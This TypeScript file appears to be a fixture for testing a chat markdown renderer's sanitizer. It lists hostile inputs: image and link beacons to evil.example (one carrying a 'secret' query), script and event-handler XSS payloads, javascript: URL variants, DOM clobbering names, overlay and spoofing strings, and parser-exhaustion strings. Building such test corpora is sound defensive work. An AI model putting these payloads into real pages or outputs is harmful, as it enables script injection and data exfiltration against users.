const evil = 'https://evil.example'
const fetching = [
  `![a](${evil}/p.png)`, `![a](//evil.example/p.png)`, `![a](/\\evil.example/p.png)`, `![a](<${evil}/p p.png>)`, `![a][r]\n\n[r]: ${evil}/p.png`,
  `![a](${evil}/p.png "t")`, `[![a](${evil}/p.png)](${evil})`, `![![a](${evil}/1)](${evil}/2)`, `![a](data:image/svg+xml,<svg onload=alert(1)>)`,
  `![a](blob:${evil}/1)`, `![a](ftp://evil.example/p.png)`, `![](${evil}/p.png)`, `!\\[a](${evil}/p.png)`, `> ![a](${evil}/p.png)`, `- ![a](${evil}/p.png)`,
  `| ![a](${evil}/p.png) |\n|---|\n| ![b](${evil}/q.png) |`, `# ![a](${evil}/p.png)`, `**![a](${evil}/p.png)**`, `![a](${evil}/?q=secret&w=1)`, `![a](&#104;ttps://evil.example/p.png)`,
  `<img src=${evil}/p.png>`, `<img srcset="${evil}/p.png 1x">`, `<picture><source srcset=${evil}/p.png></picture>`, `<video src=${evil}/v autoplay>`, `<video poster=${evil}/p.png>`,
  `<audio src=${evil}/a autoplay>`, `<track src=${evil}/t default>`, `<iframe src=${evil}></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<frame src=${evil}>`,
  `<object data=${evil}></object>`, `<embed src=${evil}>`, `<applet code=x archive=${evil}>`, `<link rel=stylesheet href=${evil}/s.css>`, `<link rel=dns-prefetch href=//evil.example>`,
  `<link rel=preconnect href=${evil}>`, `<link rel=prefetch href=${evil}>`, `<link rel=prerender href=${evil}>`, `<link rel=modulepreload href=${evil}/m.js>`, `<link rel=icon href=${evil}/i.png>`,
  `<link rel=manifest href=${evil}/m.json>`, `<link rel="expect" href="#x" blocking="render">`, `<meta http-equiv=refresh content="0;url=${evil}">`, `<meta http-equiv=x-dns-prefetch-control content=on>`, `<meta name=referrer content=unsafe-url>`,
  `<script src=${evil}/x.js></script>`, `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${evil}"]}]}</script>`, `<script type=importmap>{"imports":{"a":"${evil}"}}</script>`, `<script type=module>import "${evil}"</script>`,
  `<style>@import "${evil}/s.css";</style>`, `<style>*{background:url(${evil})}</style>`, `<p style="background:url(${evil})">x</p>`, `<table background=${evil}/p.png>`, `<body background=${evil}/p.png>`,
  `<svg><image href=${evil}/p.png /></svg>`, `<svg><use href=${evil}/s.svg#x /></svg>`, `<svg><feImage href=${evil}/p.png /></svg>`, `<svg><style>@import "${evil}"</style></svg>`, `<math><mglyph src=${evil}></math>`,
  `<input type=image src=${evil}/p.png>`, `<button formaction=${evil}>x</button>`, `<form action=${evil}><button>x</button></form>`, `<a ping=${evil} href=${evil}>x</a>`, `<a attributionsrc=${evil}>x</a>`,
  `<img attributionsrc=${evil}>`, `<base href=${evil}>`, `<html manifest=${evil}>`, `<portal src=${evil}></portal>`, `<fencedframe></fencedframe>`, `<template shadowrootmode=open><img src=${evil}></template>`,
  `<noscript><img src=${evil}></noscript>`, `<xml><x:include href=${evil} /></xml>`, `<?xml-stylesheet href="${evil}"?>`, `<!DOCTYPE x SYSTEM "${evil}">`, `<!-- ><img src=${evil}> -->`, `<!--><img src=${evil}>`, `<![CDATA[<img src=${evil}>]]>`,
] // prettier-ignore

const running = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script >alert(1)</script >', '<<script>alert(1)//<</script>', '<img src=x onerror=alert(1)>', '<img src=x:x onerror\n=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x>', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<video><source onerror=alert(1)>', '<select autofocus onfocus=alert(1)>',
  '<div onpointerover=alert(1)>x</div>', '<a href=javascript:alert(1)>x</a>', '<form action=javascript:alert(1)><button>', '<isindex action=javascript:alert(1)>', '<object data=javascript:alert(1)>', '<math href=javascript:alert(1)>x</math>', '<x contenteditable onblur=alert(1)>', '<style onload=alert(1)></style>',
  '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a]( javascript:alert(1))', '[a](java\tscript:alert(1))', '[a](<java\nscript:alert(1)>)', '[a](&#x6A;avascript:alert(1))', '[a](javascript&colon;alert(1))', '[a](javascript&#58;alert(1))',
  '[a](\\javascript:alert(1))', '[a](j\\avascript:alert(1))', '[a][r]\n\n[r]: javascript:alert(1)', '[r]\n\n[r]: <javascript:alert(1)>', '<javascript:alert(1)>', '[a](data:text/html,<script>alert(1)</script>)', '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)', '[a](vbscript:msgbox(1))',
  '[a](javascript://evil.example/%0Aalert(1))', '[a](feed:javascript:alert(1))', '[a](view-source:javascript:1)', '[a](\u0001javascript:alert(1))', '[a](\u200bjavascript:alert(1))', '[a](javascript\u00a0:alert(1))', '![a](javascript:alert(1))', '[![a](x)](javascript:alert(1))',
  '[a](javascript:alert(1) "title")', '[a](https://a.example "\\" onclick=alert(1)")', '![" onerror=alert(1)](https://a.example/x.png)', '[<img src=x onerror=alert(1)>](https://a.example)', '# <img src=x onerror=alert(1)>', '`<img src=x onerror=alert(1)>`', '```html\n<img src=x onerror=alert(1)>\n```', '```" onclick=alert(1)\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|', '- [ ] <img src=x onerror=alert(1)>', '> <script>alert(1)</script>', '<https://a.example/" onclick="alert(1)>', 'www.a.example"onclick=alert(1)', 'https://a.example/<script>alert(1)</script>', '<a\u0000 href=javascript:1>', '<img\u000csrc=x onerror=alert(1)>',
  '</div></section><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '<template><script>alert(1)</script></template>', '<slot name=x></slot>', '<parley-chat data-publishable-key=pk_evil></parley-chat>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 7*7 %>',
] // prettier-ignore

const clobbering = [
  '<a id=parentNode name=parentNode>x</a>', '<form name=body><input name=parentNode></form>', '<img name=currentScript>', '<input id=Parley name=Parley>', '# parentNode', '# constructor\n\n# __proto__', '[^1]\n\n[^1]: note', '<h1 id=adoptedStyleSheets>x</h1>',
  '[__proto__]\n\n[__proto__]: https://a.example', '[constructor]\n\n[constructor]: https://a.example', '[toString]', '[hasOwnProperty]: https://a.example\n\n[hasOwnProperty]', '```__proto__\nx\n```', '```constructor\nx\n```', '&constructor; &__proto__; &toString;', '<section part=x slot=y is=z>x</section>',
] // prettier-ignore

const overlaying = [
  '<div style="position:fixed;inset:0;z-index:2147483647">x</div>', '<dialog open>x</dialog>', '<div popover=auto>x</div>', '<div class=launcher>Close chat</div>', '<div class="panel" data-kind="floating">x</div>', '<button popovertarget=x>y</button>', '\u202etxt.exe', 'a\u0300'.repeat(200),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘'.repeat(8), '\ufdfd'.repeat(60), 'W'.repeat(900), '.'.repeat(900), '\n\n'.repeat(300), '| a '.repeat(60) + '|\n' + '|---'.repeat(60) + '|', '> '.repeat(60) + 'x', '- '.repeat(60) + 'x', '&nbsp;'.repeat(200), '\u2028\u2029\u0085'.repeat(40),
] // prettier-ignore

const colliding = [
  '*'.repeat(400), '_'.repeat(400), '`'.repeat(400), '~'.repeat(400), '['.repeat(400), ']'.repeat(400), '('.repeat(400), '!['.repeat(200), '[a]('.repeat(150), '**a '.repeat(150), '*a **b '.repeat(80), '_a __b '.repeat(80), '`a ``b '.repeat(80), '<a '.repeat(150), '<!--'.repeat(120), '&#'.repeat(200),
  '1. '.repeat(100), '- > '.repeat(80), '\\'.repeat(400), '|'.repeat(400) + '\n' + '|-'.repeat(200), 'a@'.repeat(200), 'http://'.repeat(80), 'www.'.repeat(120), '[x]: y\n'.repeat(80), '#'.repeat(400), '=\n'.repeat(200), '\t'.repeat(400) + 'x', '\r'.repeat(100), '\u0000'.repeat(100), '- a\n'.repeat(120), '~~a '.repeat(120), '&'.repeat(400),
] // prettier-ignore

const typeset = [
  `$\\href{${evil}}{x}$`, `$$\\href{javascript:alert(1)}{x}$$`, `$\\url{${evil}}$`, `$\\includegraphics{${evil}/p.png}$`, `$$\\includegraphics[width=9999em]{${evil}/p.png}$$`, '$\\htmlClass{launcher}{x}$', '$\\class{launcher}{x}$', '$\\htmlId{parentNode}{x}$', '$\\id{parentNode}{x}$', '$\\style{position:fixed;inset:0}{x}$', '$\\data{action=x}{y}$',
  '$$\\label{constructor}x\\tag{1}$$ $\\ref{constructor}$', '$\\unicode{x3c}script\\unicode{x3e}$', '$\\text{<img src=x onerror=alert(1)>}$', '$$\\rule{9999em}{9999em}$$', '$\\kern-9999em x$', '$\\raisebox{9999em}{x}$', '$$\\begin{array}{c}' + 'x\\\\'.repeat(200) + '\\end{array}$$', '$\\color{red}\\colorbox{black}{x}$', '$\\Huge\\Huge x$', '$\\mathllap{' + 'W'.repeat(300) + '}$',
  '$\\def\\a{\\a\\a}\\a$', '$\\gdef\\constructor{x}\\gdef\\__proto__{y}$', '$' + '{'.repeat(400) + '}'.repeat(400) + '$', '$' + '\\left('.repeat(100) + '$', '$' + 'x^'.repeat(300) + 'x$', '$x$'.repeat(130), '```math\n\\href{javascript:alert(1)}{x}\n```', '\\[\\href{javascript:alert(1)}{x}\\]', '\\(\\includegraphics{//evil.example/p.png}\\)', '[$x$](javascript:alert(1))', '![$x$](https://evil.example/p.png)',
] // prettier-ignore

/** Inputs that want to fetch, run, clobber, leave the message, or cost time. Our own; the test adds a public list. */
export const hostileMarkdown: readonly string[] = [
  ...fetching,
  ...running,
  ...clobbering,
  ...overlaying,
  ...colliding,
  ...typeset,
]
